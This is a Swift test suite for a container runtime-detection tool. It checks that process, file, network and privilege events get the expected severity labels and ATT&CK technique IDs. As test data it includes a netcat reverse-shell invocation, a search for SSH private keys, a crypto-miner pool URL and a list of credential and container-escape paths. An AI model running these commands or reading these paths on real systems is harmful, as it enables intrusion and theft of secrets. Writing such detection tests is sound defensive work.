import Testing

@testable import Baseline

@Suite("Severity and sensitive paths")
struct SeverityTests {
    func process(
        _ name: String, by parent: String, origin: LineageOrigin = .entrypoint, terminal: Bool = false,
        arguments: [String] = [], drift: Drift? = nil, at path: String? = nil
    ) -> SeverityLabel {
        let program = Program(executable: path ?? "/usr/bin/" + name, name: name)
        return SeverityTable.label(
            for: observation(
                .process(ProcessBehaviour(program: program, parent: parent, origin: origin, terminal: terminal)),
                origin: origin, terminal: terminal, drift: drift, arguments: [name] + arguments))
    }

    @Test("A shell says who started it, how, and why that matters")
    func sentences() {
        let shell = process("sh", by: "nginx", origin: .exec, terminal: true)
        #expect(shell.severity == .critical)
        #expect(
            shell.explanation
                == "sh was started by nginx in an exec session with a terminal; a server that starts a shell is the usual sign of a break-in."
        )
        #expect(shell.techniques.first == "T1505.003")
        let session = process("sh", by: "exec", origin: .exec, terminal: true)
        #expect(
            session.explanation
                == "sh was started from outside in an exec session with a terminal; this image never ran a shell in this way."
        )
        #expect(session.severity == .high)
    }

    @Test("What a program is, where it lies and what it is told decide its label")
    func processes() {
        #expect(process("apt-get", by: "sh").techniques.contains("T1072"))
        #expect(process("psql", by: "postgres").severity == .critical)
        #expect(process("xmrig", by: "sh").severity == .critical)
        #expect(process("x", by: "sh", at: "/dev/shm/x").severity == .critical)
        #expect(process("x", by: "sh", at: "/tmp/x").severity == .high)
        #expect(process("x", by: "sh", drift: .memory).techniques.first == "T1620")
        #expect(process("x", by: "sh", drift: .added).severity == .critical)
        #expect(process("x", by: "sh").severity == .medium)
        #expect(process("nc", by: "sh", arguments: ["-e", "/bin/sh", "1.2.3.4", "9"]).severity == .critical)
        #expect(process("find", by: "sh", arguments: ["/", "-name", "id_rsa"]).severity == .high)
        #expect(process("find", by: "sh", arguments: ["/data"]).severity == .medium)
        #expect(process("x", by: "sh", arguments: ["-o", "stratum+tcp://pool:3333"]).techniques == ["T1496"])
        #expect(process("pkexec", by: "sh").techniques.contains("T1068"))
        #expect(process("base64", by: "sh", arguments: ["-d"]).techniques.contains("T1140"))
    }

    @Test(
        "File accesses are labelled by what they touch",
        arguments: [
            ("/etc/shadow", Access.read, FileOperation?.none, Severity.high, "T1003.008"),
            ("/etc/cron.d/x", .create, .open, .critical, "T1053.003"),
            ("/usr/bin/ls", .write, .open, .critical, "T1554"), ("/etc/motd", .create, .rename, .high, "T1565.001"),
            ("/var/log/auth.log", .delete, .unlink, .high, "T1070.002"),
            ("/var/log/auth.log", .write, .truncate, .high, "T1070.002"),
            ("/data/x", .write, .setID, .critical, "T1548.001"),
            ("/data/x", .write, .makeExecutable, .high, "T1222.002"),
            ("/dev/x", .create, .open, .high, "T1564.001"), ("/data/.hidden", .create, .open, .medium, "T1564.001"),
            ("/root/.ssh/authorized_keys", .write, .open, .critical, "T1098.004"),
            ("/root/.bash_history", .delete, .unlink, .high, "T1546.004"),
            ("/home/u/.bash_history", .delete, .unlink, .medium, "T1552.003"),
            ("/var/lib/dpkg/status", .write, .open, .medium, "T1072"),
            ("/proc/7/mem", .write, .open, .critical, "T1055.009"),
            ("/sys/fs/cgroup/x/release_agent", .write, .open, .critical, "T1611"),
            ("/dev/sda1", .read, .open, .critical, "T1611"), ("/data/x", .read, .open, .low, "T1005"),
            ("/tmp/x.so", .exec, .map, .high, "T1574.006"),
        ])
    func files(path: String, access: Access, operation: FileOperation?, severity: Severity, technique: String) {
        let label = SeverityTable.label(for: observation(file(nginx, access, path), operation: operation))
        #expect(label.severity == severity, "\(label)")
        #expect(label.techniques.contains(technique), "\(label)")
        #expect(
            label.explanation.contains(path) && label.explanation.hasPrefix("nginx ")
                && label.explanation.hasSuffix("."))
    }

    @Test("A link to a sensitive file and a refused read say so")
    func special() {
        let link = SeverityTable.label(
            for: observation(file(nginx, .create, "/tmp/x"), operation: .symlink, others: ["/etc/shadow"]))
        #expect(link.severity >= .high && link.explanation.contains("/etc/shadow"))
        let refused = SeverityTable.label(for: observation(file(nginx, .read, "/etc/shadow"), refused: true))
        #expect(
            refused.explanation
                == "nginx tried to read /etc/shadow: the password hashes; this image never did that. The system refused it."
        )
    }

    @Test("Connections and listening ports are labelled by who and where")
    func network() {
        func call(_ program: Program, _ peer: ConnectPeer, _ address: String? = nil) -> SeverityLabel {
            SeverityTable.label(
                for: observation(.connect(ConnectBehaviour(program: program, peer: peer)), address: address))
        }
        #expect(call(nginx, .network(.metadata, .tcp, 80)).severity == .critical)
        #expect(call(nginx, .unix("/var/run/docker.sock")).severity == .critical)
        #expect(call(nginx, .unix("/run/x.sock")).severity == .low)
        #expect(call(busyboxShell, .network(.private, .tcp, 9)).severity == .critical)
        #expect(
            call(nginx, .network(.public, .tcp, 4444), "203.0.113.7").explanation.contains(
                "203.0.113.7 (the internet) on tcp port 4444"))
        let listen = SeverityTable.label(
            for: observation(.listen(ListenBehaviour(program: nginx, endpoint: .port(.tcp, 4444)))))
        #expect(listen.severity == .high && listen.explanation.contains("4444"))
    }

    @Test(
        "Every privilege has a label",
        arguments: [
            "setuid", "setns", "mount", "ptrace", "module", "bpf", "memfd_create", "32-bit", "socket:raw", "redirect",
            "userfaultfd", "made-up",
        ])
    func privileges(operation: String) {
        let label = SeverityTable.label(
            for: observation(.privilege(PrivilegeBehaviour(program: nginx, operation: operation))))
        #expect(label.severity >= .medium && !label.techniques.isEmpty)
        #expect(label.explanation.hasPrefix("nginx ") && label.explanation.hasSuffix("."))
    }

    @Test("Code that the image did not have makes whatever it does at least high")
    func drift() {
        #expect(SeverityTable.label(for: observation(file(nginx, .read, "/data/x"), drift: .added)).severity == .high)
    }

    @Test(
        "Sensitive paths and their neighbours are told apart",
        arguments: [
            ("/etc/shadow", Access.read, true), ("/etc/passwd", .read, false), ("/etc/passwd", .write, true),
            ("/proc/self/environ", .read, false),
            ("/proc/7/task/9/environ", .read, true), ("/proc/7/task/9/mem", .write, true),
            ("/proc/7/task/9/root/etc/x", .read, true), ("/proc/7/task/9/cwd/x", .create, true),
            ("/proc/7/task/9/exe", .write, true), ("/proc/7/task/9/exe", .read, false),
            ("/proc/7/task/9/status", .read, false), ("/proc/self/task/9/environ", .read, false),
            ("/proc/self/task/9/mem", .write, true), ("/proc/7/environ", .read, true), ("/proc/self/mem", .write, true),
            ("/run/docker.sock", .write, true),
            ("/a/b/docker.sock", .read, true),
            ("/usr/bin/ls", .read, false), ("/usr/bin/ls", .create, true), ("/usr/bin", .create, false),
            ("/etc/ssl/certs/ca.pem", .read, false),
            ("/etc/ssl/private/x", .read, true), ("/srv/tls/privkey.pem", .read, true), ("/etc/crontab", .read, true),
            ("/root/x", .read, true),
            ("/root", .read, false), ("/var/run/secrets/kubernetes.io/serviceaccount/token", .read, true),
            ("/home/u/.aws/credentials", .read, true),
            ("/tmp/x", .write, false), ("/etc/ld.so.cache", .read, false), ("/etc/ld.so.preload", .create, true),
        ])
    func sensitivity(path: String, access: Access, expected: Bool) {
        #expect(SensitivePath.isSensitive(path, access: access) == expected)
    }

    @Test("The kernel's names hold the last components that matter")
    func names() {
        for name in ["shadow", "docker.sock", "id_rsa", "sudoers", "environ", "mem"] {
            #expect(SensitivePath.names.contains(name))
        }
        #expect(
            SensitivePath.names == SensitivePath.names.sorted() && !SensitivePath.names.contains { $0.contains("*") })
        #expect(SensitivePath.directoryNames.contains(".ssh") && SensitivePath.directoryNames.contains("root"))
    }
}
